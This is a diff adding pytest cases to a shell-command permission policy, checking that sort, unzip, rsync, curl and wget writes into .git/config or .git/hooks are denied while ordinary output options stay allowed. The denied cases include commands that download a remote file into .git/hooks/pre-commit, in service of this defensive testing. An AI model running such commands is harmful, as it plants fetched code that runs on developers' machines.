@@ -245,3 +245,33 @@ def test_shell_writes_to_protected_paths_are_refused(
 )
 def test_ordinary_shell_writes_stay_allowed(policy: Policy, command: str) -> None:
     assert verdict(policy, command)[0] == "allow"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sort -o .git/config x",
+        "unzip -qo x.zip -d .git/hooks",
+        "rsync -a evil/ .git/hooks/",
+        "curl -sSLo .git/hooks/pre-commit https://example.com/x",
+        "curl --output=.git/hooks/pre-commit https://example.com/x",
+        "wget -O.git/hooks/pre-commit https://example.com/x",
+    ],
+)
+def test_output_options_naming_protected_paths_are_refused(policy: Policy, command: str) -> None:
+    assert verdict(policy, command) == ("deny", "paths.deny_write")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "sort -o out.txt in.txt",
+        "curl -fsSL https://example.com/x -o out.sh",
+        "wget -qO- https://example.com/x",
+        "unzip -o x.zip -d build",
+        "rsync -a src/ dst/",
+        "sort -u in.txt",
+    ],
+)
+def test_ordinary_output_options_stay_allowed(policy: Policy, command: str) -> None:
+    assert verdict(policy, command)[0] == "allow"
